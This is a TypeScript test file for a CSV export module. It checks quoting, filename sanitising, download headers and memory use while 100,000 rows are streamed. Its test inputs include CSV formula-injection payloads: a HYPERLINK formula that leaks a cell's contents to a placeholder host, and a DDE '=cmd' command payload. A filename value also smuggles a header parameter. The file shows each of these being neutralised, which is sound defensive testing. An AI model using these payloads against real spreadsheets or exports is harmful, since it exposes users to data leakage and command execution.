import http from 'node:http';
import type { AddressInfo } from 'node:net';
import v8 from 'node:v8';
import vm from 'node:vm';
import Fastify, { type FastifyInstance } from 'fastify';
import { formatCsvCell, formatCsvRecord, sanitiseCsvFilename, sendCsvExport, type CsvColumn } from './csv-export';

// The CSV writer: RFC 4180 quoting, formula neutralisation, the download's headers, and an export of 100,000 rows
// sent over a real socket while the rows are made, so that neither the rows nor the text pile up in memory.

describe('cells', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    [null, ''],
    [undefined, ''],
    [42, '42'],
    [true, 'true'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    ['naïve café', 'naïve café'],
  ])('write %j as %j', (value, expected) => {
    expect(formatCsvCell(value)).toBe(expected);
  });

  it.each([
    ['=1+2', `"'=1+2"`],
    ['=HYPERLINK("http://x.example/?leak="&A1,"Click")', `"'=HYPERLINK(""http://x.example/?leak=""&A1,""Click"")"`],
    ['+91 98765 43210', `"'+91 98765 43210"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    [-5, `"'-5"`],
  ])('neutralise %j as %j', (value, expected) => {
    expect(formatCsvCell(value)).toBe(expected);
  });

  it('leaves a formula character that does not start the cell alone', () => {
    expect(formatCsvCell('a=b+c-d@e')).toBe('a=b+c-d@e');
  });

  it('ends each record with CRLF', () => {
    expect(formatCsvRecord(['a', 'b,c', null])).toBe('a,"b,c",\r\n');
  });

  it.each([
    ['messages.csv', 'messages.csv'],
    ['messages', 'messages.csv'],
    ['a"b\r\n; filename=x.exe', 'a-b----filename-x.exe.csv'],
  ])('makes the file name %j safe as %j', (name, expected) => {
    expect(sanitiseCsvFilename(name)).toBe(expected);
  });
});

interface Person {
  id: number;
  name: string;
  note: string | null;
}

const PEOPLE_COLUMNS: readonly CsvColumn<Person>[] = [
  { header: 'Id', read: (row) => row.id },
  { header: 'Name', read: (row) => row.name },
  { header: 'Note', read: (row) => row.note },
];

async function* generatePeople(people: Person[]): AsyncGenerator<Person> {
  for (const person of people) {
    await Promise.resolve();
    yield person;
  }
}

describe('a small export', () => {
  let app: FastifyInstance;

  beforeAll(async () => {
    app = Fastify();
    app.get('/export', (_request, reply) =>
      sendCsvExport(reply, {
        filename: 'people 2026.csv',
        columns: PEOPLE_COLUMNS,
        rows: generatePeople([
          { id: 1, name: 'Asha, Rao', note: '=cmd|" /C calc"!A0' },
          { id: 2, name: 'Ravi "R" Kumar', note: null },
        ]),
      }),
    );
    await app.ready();
  });

  afterAll(async () => {
    await app.close();
  });

  it('is an attachment of UTF-8 CSV that no cache keeps', async () => {
    const response = await app.inject({ url: '/export' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="people-2026.csv"');
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.body).toBe(['\uFEFFId,Name,Note', '1,"Asha, Rao","\'=cmd|"" /C calc""!A0"', '2,"Ravi ""R"" Kumar",', ''].join('\r\n'));
  });
});

/**
 * A full garbage collection, so that the heap measured is what is still referenced: without it, heapUsed also counts
 * the garbage V8 has not collected yet, which says nothing about what the export keeps.
 */
function collectGarbage(): void {
  v8.setFlagsFromString('--expose-gc');
  (vm.runInNewContext('gc') as () => void)();
}

describe('a large export', () => {
  const ROWS = 100_000;
  // about 1 KB a row: 100 MB of text in all, which would show in the heap at once if the rows or the text were
  // gathered before sending
  const FILLER = 'x'.repeat(1000);
  // each sample is a full garbage collection, which costs: ten of them over the export are enough to see growth
  const SAMPLE_EVERY = 10_000;

  let app: FastifyInstance;
  let produced = 0;
  let received = 0;
  let largestLag = 0;
  const heapSamples: number[] = [];

  async function* generateRows(): AsyncGenerator<Person> {
    for (let id = 1; id <= ROWS; id += 1) {
      produced = id;
      largestLag = Math.max(largestLag, produced - received);
      if (id % SAMPLE_EVERY === 0) {
        collectGarbage();
        heapSamples.push(process.memoryUsage().heapUsed);
      }
      // a database batch resolves asynchronously: so does each row here
      if (id % 100 === 0) await new Promise((resolve) => setImmediate(resolve));
      yield { id, name: `Person ${id}`, note: FILLER };
    }
  }

  beforeAll(async () => {
    app = Fastify();
    app.get('/export', (_request, reply) => sendCsvExport(reply, { filename: 'large.csv', columns: PEOPLE_COLUMNS, rows: generateRows() }));
    await app.listen({ port: 0, host: '127.0.0.1' });
  });

  afterAll(async () => {
    await app.close();
  });

  it('streams 100,000 rows with the rows made only as fast as the client reads them', async () => {
    collectGarbage();
    const baseline = process.memoryUsage().heapUsed;
    const { port } = app.server.address() as AddressInfo;
    let bytes = 0;
    let lastLine = '';
    await new Promise<void>((resolve, reject) => {
      http
        .get({ host: '127.0.0.1', port, path: '/export' }, (response) => {
          let carried = '';
          let headerSeen = false;
          response.setEncoding('utf8');
          response.on('data', (chunk: string) => {
            bytes += Buffer.byteLength(chunk);
            const lines = (carried + chunk).split('\r\n');
            carried = lines.pop() ?? '';
            // the header line is not a row
            const header = !headerSeen && lines.length > 0 ? 1 : 0;
            headerSeen ||= header === 1;
            received += lines.length - header;
            if (lines.length > 0) lastLine = lines.at(-1)!;
          });
          response.on('end', resolve);
          response.on('error', reject);
        })
        .on('error', reject);
    });

    expect(received).toBe(ROWS);
    expect(lastLine).toBe(`${ROWS},Person ${ROWS},${FILLER}`);
    expect(bytes).toBeGreaterThan(ROWS * FILLER.length);
    // Rows made but not yet read by the client: what the stream's buffer and the socket's hold, a few thousand at
    // most. Gathering the rows before sending would make every row before the client read the first.
    expect(largestLag).toBeLessThan(ROWS / 5);
    // The live heap grows by what is in flight, not by the 100 MB sent.
    const peak = Math.max(...heapSamples);
    expect(peak - baseline).toBeLessThan(48 * 1024 * 1024);
    // 100 MB through a real socket with full collections on the way: on a busy two-core machine (the whole suite
    // running beside it) that passes the run's 15 s
  }, 60_000);
});
